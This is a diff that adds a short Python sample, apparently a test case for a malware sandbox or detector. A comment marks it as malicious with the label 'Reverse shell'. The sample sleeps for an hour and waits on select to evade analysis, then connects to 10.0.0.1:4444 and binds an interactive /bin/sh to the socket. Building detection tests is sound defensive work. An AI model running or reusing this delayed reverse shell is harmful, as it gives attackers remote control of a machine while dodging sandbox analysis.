@@ -0,0 +1,12 @@
+# 长时间sleep和select等待之后才连接回连地址，虚拟时钟下不真实等待
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+import os, select, socket, subprocess, time
+
+time.sleep(3600)
+select.select([], [], [], 600)
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("10.0.0.1", 4444))
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 1)
+os.dup2(s.fileno(), 2)
+subprocess.call(["/bin/sh", "-i"])